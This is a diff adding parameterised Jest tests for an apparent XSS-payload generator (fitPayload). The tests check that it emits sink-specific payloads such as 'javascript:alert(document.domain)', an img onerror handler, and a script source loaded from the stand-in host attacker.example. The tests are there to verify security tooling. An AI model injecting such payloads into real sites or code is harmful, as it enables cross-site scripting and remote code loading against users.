@@ -116,3 +116,12 @@ it.each([
 ])('code is written in the language of %s', (file, sinkApi, value) => {
   expect(fitPayload(candidate({ file, sinkApi, shape: shape('@') }), 'code-injection')?.value).toBe(value);
 });
+
+it.each([
+  ['<a href>', 'javascript:alert(document.domain)'],
+  ['<html.script>.src', 'https://attacker.example/x.js'],
+  ['<html.iframe>.src', 'javascript:alert(document.domain)'],
+  ['jQuery().html', '<img src=x onerror=alert(document.domain)>'],
+])('a whole address in %s is %s', (sinkApi, value) => {
+  expect(fitPayload(candidate({ sinkApi, shape: shape('@') }), 'xss')).toMatchObject({ value });
+});
